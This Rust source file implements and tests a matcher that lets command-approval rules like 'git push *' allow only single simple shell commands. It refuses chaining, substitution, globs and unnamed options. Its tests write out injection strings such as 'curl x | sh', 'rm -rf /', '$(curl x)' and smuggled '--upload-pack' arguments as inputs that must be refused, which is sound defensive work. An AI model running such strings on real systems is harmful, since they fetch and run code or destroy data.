//! Pattern rules over commands (`pre_approved`, `/approve <id> always-like "git push *"`): a
//! rule allows an action only when the action is one simple shell command whose words fit the
//! rule's words. Matching the text as a whole let `git push *` allow
//! `git push origin main && curl … | sh`; matching words of a simple command cannot.
//!
//! A simple command here is what a shell runs as one program with its arguments: words,
//! with `'…'`, `"…"` and `\` quoting. Anything that makes a shell do more — `&&`, `||`, `;`,
//! `|`, `&`, redirections (`<`, `>`), `(`/`)`, backticks, `$` (substitution, expansion), a
//! comment (`#` starting a word), newlines or other control characters, or an unclosed quote
//! — makes the action not simple, and no rule fits it: a person is asked. So do unquoted
//! `*`, `?`, `[`, `{` and `}` in the action (the shell would expand one word into several, so
//! the words a rule saw would not be the words that run); in a rule, `*` is its wildcard.
//!
//! The words of a rule, in order:
//! - the first, the program, is literal: `*` there fits nothing;
//! - `*` alone stands for one plain word; as the last word, for one or more;
//! - a word with `*` inside (`test:*`, `build/*.o`) fits one plain word, each `*` standing
//!   for any run of characters within it;
//! - an option, a word that starts with `-` or `+` (`-f`, `--force`, `--upload-pack=x`, and
//!   git's `+main`, which forces a push as `--force` does), fits only the same option: options
//!   are never covered by a `*`, they must be named. A `*` after the option's first `=` stands
//!   for any value (`--message=*`); one before it fits nothing (`--*`, `-*`): a rule cannot
//!   leave open which option it allows.
//!
//! A word counts as an option by how it reads once its quotes are removed (what the program
//! receives), wherever it stands: `git commit -m *` asks for `git commit -m '-x'`, as it cannot
//! know that `-x` is the message and not an option.
//!
//! Why the splitting is our own: the shell-word crates (`shlex`, `shell-words`) return the same
//! words for `a '&&' b` and `a && b`, and for `a '$(x)'` and `a $(x)`; they read `a&&b` as one
//! word (a shell runs `a`, then `b`), and shlex drops `# …` comments. Whether an action is one
//! simple command depends on exactly what they do not report — which characters were quoted —
//! and a second scanner beside them would be a second parser whose every disagreement with
//! them is a way around a rule. The words within a rule word are matched by `wildmatch`
//! ([`crate::text::glob`]).

use crate::text::glob;

/// The words of `command` when it is one simple command (quotes removed); none otherwise.
pub fn simple_words(command: &str) -> Option<Vec<String>> {
    lex(command, false)
}

/// The words of `command` as [`simple_words`], refusing (with `literal`) unquoted characters a
/// shell expands into more words or other words.
fn lex(command: &str, literal: bool) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word = String::new();
    // A word may be empty but quoted (`''`): whether one has begun.
    let mut begun = false;
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if begun {
                    words.push(std::mem::take(&mut word));
                    begun = false;
                }
            }
            '\'' => {
                begun = true;
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c if c.is_control() => return None,
                        c => word.push(c),
                    }
                }
            }
            '"' => {
                begun = true;
                loop {
                    match chars.next()? {
                        '"' => break,
                        // Substitution and expansion work inside double quotes too.
                        '$' | '`' => return None,
                        '\\' => match chars.next()? {
                            c @ ('"' | '\\') => word.push(c),
                            c if c.is_control() => return None,
                            c => {
                                word.push('\\');
                                word.push(c);
                            }
                        },
                        c if c.is_control() => return None,
                        c => word.push(c),
                    }
                }
            }
            '\\' => match chars.next()? {
                c if c.is_control() => return None,
                c => {
                    begun = true;
                    word.push(c);
                }
            },
            '#' if !begun => return None,
            '*' | '?' | '[' | '{' | '}' if literal => return None,
            '&' | '|' | ';' | '<' | '>' | '(' | ')' | '`' | '$' => return None,
            c if c.is_control() => return None,
            c => {
                begun = true;
                word.push(c);
            }
        }
    }
    if begun {
        words.push(word);
    }
    Some(words)
}

/// Whether `word` (quotes removed) is an option: it starts with `-` or `+`.
fn is_option(word: &str) -> bool {
    word.starts_with(['-', '+'])
}

/// Whether the action's word `word` fits the rule's word `rule` (see the module's comment).
fn word_fits(rule: &str, word: &str) -> bool {
    if is_option(rule) {
        let name = rule.split('=').next().unwrap_or(rule);
        !name.contains('*') && glob(rule, word)
    } else {
        !is_option(word) && glob(rule, word)
    }
}

/// Why the rule `pattern` can never fit an action, if it cannot: it is not one simple command,
/// its program is a wildcard, or it leaves an option's name open.
pub fn never_fits(pattern: &str) -> Option<&'static str> {
    let Some(words) = lex(pattern, false) else {
        return Some("it is not one simple command (no `&&`, `|`, `;`, `>`, `$`, backticks, or unclosed quotes)");
    };
    match words.first() {
        None => Some("it is empty"),
        Some(program) if program.contains('*') => Some("its first word, the program, must be named (no `*`)"),
        _ if words.iter().any(|w| is_option(w) && w.split('=').next().is_some_and(|name| name.contains('*'))) => {
            Some("an option must be named: a `*` may stand only for its value, after `=` (`--message=*`)")
        }
        _ => None,
    }
}

/// Whether `action` fits the rule `pattern`: both are simple commands, the action's program is
/// the rule's, and each word of the action fits the rule's word in the same place, a last rule
/// word of `*` alone taking one or more remaining plain words (see the module's comment).
/// `git push *` fits `git push origin main`; it fits none of `git push --force origin main`,
/// `git push --upload-pack=x origin main`, `git push origin +main`,
/// `git push origin main && curl x | sh`, or `git push` alone.
pub fn fits(pattern: &str, action: &str) -> bool {
    if never_fits(pattern).is_some() {
        return false;
    }
    let (Some(pattern), Some(action)) = (lex(pattern, false), lex(action, true)) else {
        return false;
    };
    let (rest, fixed) = match pattern.split_last() {
        Some((last, fixed)) if last == "*" && !fixed.is_empty() => (true, fixed),
        _ => (false, pattern.as_slice()),
    };
    let counts = if rest { action.len() > fixed.len() } else { action.len() == fixed.len() };
    let (program, words) = (&fixed[0], &fixed[1..]);
    counts
        && action[0] == *program
        && words.iter().zip(&action[1..]).all(|(p, a)| word_fits(p, a))
        && action[fixed.len()..].iter().all(|a| !is_option(a))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_rule_for_a_command_allows_that_command_with_other_arguments() {
        assert!(fits("git push *", "git push origin main"));
        assert!(fits("git push *", "git  push\torigin"));
        assert!(fits("git push *", "git push 'origin' \"main\""));
        assert!(fits("npm run test:*", "npm run test:unit"));
        assert!(fits("deploy staging", "deploy staging"));
        assert!(fits("rm build/*.o", "rm build/a.o"));
        assert!(fits("rm build/*.o", "rm 'build/*.o'"), "quoted, the action's * is a character");
    }

    #[test]
    fn a_chained_piped_redirected_or_substituted_command_fits_no_rule() {
        for action in [
            "git push origin main && curl x | sh",
            "git push origin main || rm -rf /",
            "git push origin main; rm -rf /",
            "git push origin main | sh",
            "git push origin main &",
            "git push origin main > /etc/passwd",
            "git push origin < /dev/null",
            "git push `curl x`",
            "git push $(curl x)",
            "git push \"$(curl x)\"",
            "git push \"`curl x`\"",
            "git push $HOME",
            "git push origin\nrm -rf /",
            "git push origin\rrm",
            "git push origin # and more",
            "git push (origin)",
            "git push 'origin",
            "git push origin \\",
            "git push origin feature-{a,b}",
            "git push origin *",
            "git push origin ma?n",
            "git push origin [m]ain",
        ] {
            assert!(!fits("git push *", action), "{action:?}");
            assert!(!fits("*", action), "{action:?}");
        }
    }

    #[test]
    fn quoted_operators_are_words_and_words_must_line_up() {
        assert!(fits("git commit -m *", "git commit -m 'fix && test'"));
        assert_eq!(simple_words("echo 'a && b' \"c|d\" e\\;f").unwrap(), ["echo", "a && b", "c|d", "e;f"]);
        assert!(!fits("git push *", "git push"));
        assert!(!fits("git push *", "git pushx origin"));
        assert!(!fits("deploy staging", "deploy staging now"));
        assert!(!fits("deploy *", "sudo deploy prod"));
        // A pattern that is not a simple command fits nothing, nor one whose program is a wildcard.
        assert!(!fits("git push * && *", "git push a && b"));
        assert!(!fits("*/* *", "/bin/sh -c 'curl x | sh'"));
    }

    #[test]
    fn a_star_never_stands_for_an_option() {
        for action in [
            "git push --upload-pack=x origin main",
            "git push --receive-pack=x origin main",
            "git push --exec=x origin main",
            "git push --force origin main",
            "git push -f origin main",
            "git push origin main --force",
            "git push origin +main",
            "git push '--upload-pack=touch /tmp/x' origin",
            "git push \"--exec\"=x origin",
            "git push \\--force origin",
            "git push -- origin",
            "git push - origin",
        ] {
            assert!(!fits("git push *", action), "{action:?}");
            assert!(!fits("git push * *", action), "{action:?}");
            assert!(!fits("git push origin *", action), "{action:?}");
            assert!(!fits("git push * main", action), "{action:?}");
            assert!(!fits("git push *-* *", action), "{action:?}");
        }
        assert!(!fits("git commit -m *", "git commit -m '-x'"), "a value that reads as an option is one");
        assert!(!fits("git push *pack=x origin", "git push --upload-pack=x origin"));
    }

    #[test]
    fn an_option_named_in_the_rule_fits_that_option_only() {
        assert!(fits("git push --force *", "git push --force origin main"));
        assert!(!fits("git push --force *", "git push --force-with-lease origin"));
        assert!(!fits("git push --force *", "git push origin main"), "a named option is a word like any other");
        assert!(fits("git commit -m *", "git commit -m 'fix the build'"));
        assert!(fits("git commit --message=* *", "git commit --message=fix origin"));
        assert!(!fits("git commit --message=* *", "git commit --message=fix --amend"));
        assert!(!fits("git commit --message=*", "git commit --messages=fix"));
        assert!(!fits("git commit --message=*", "git commit --message"));
        assert!(fits("git push origin +main", "git push origin +main"));
        // An option whose name is left open fits nothing, and says why.
        for rule in ["git push --*", "git push -*", "git push --*=x", "git push +*"] {
            assert!(!fits(rule, "git push --force"), "{rule}");
            assert!(!fits(rule, "git push -f"), "{rule}");
            assert!(never_fits(rule).is_some_and(|why| why.contains("option must be named")), "{rule}");
        }
        assert_eq!(never_fits("git push --message=*"), None);
        assert_eq!(never_fits("git push *"), None);
        assert!(never_fits("* push").is_some());
        assert!(never_fits("git push && rm").is_some());
        assert!(never_fits("").is_some());
    }

    #[test]
    fn a_middle_star_stands_for_one_word_and_a_last_star_for_one_or_more() {
        assert!(fits("git push * main", "git push origin main"));
        assert!(!fits("git push * main", "git push origin upstream main"));
        assert!(fits("git push *", "git push origin main feature"));
        assert!(fits("git push origin *", "git push origin main"));
        assert!(!fits("git push origin *", "git push upstream main"));
        assert!(fits("deploy *", "deploy ''"), "an empty quoted word is a plain word");
        assert!(!fits("ls", "ls -la"), "nothing in the rule stands for the option");
    }

    proptest::proptest! {
        /// Whatever words are around it, an option the rule does not name makes it ask.
        #[test]
        fn an_unnamed_option_anywhere_is_never_allowed(
            before in proptest::collection::vec("[a-z0-9_./:]{1,8}", 0..3),
            after in proptest::collection::vec("[a-z0-9_./:]{1,8}", 0..3),
            option in "(-|--|\\+)[a-z][a-z-]{0,8}(=[a-z0-9]{0,6})?",
        ) {
            let words: Vec<String> = before.into_iter().chain([option]).chain(after).collect();
            let action = format!("git push {}", words.join(" "));
            for rule in ["git push *", "git push * *", "git push * * *", "git push *:* *"] {
                proptest::prop_assert!(!fits(rule, &action), "{} fits {}", rule, action);
            }
        }
    }
}
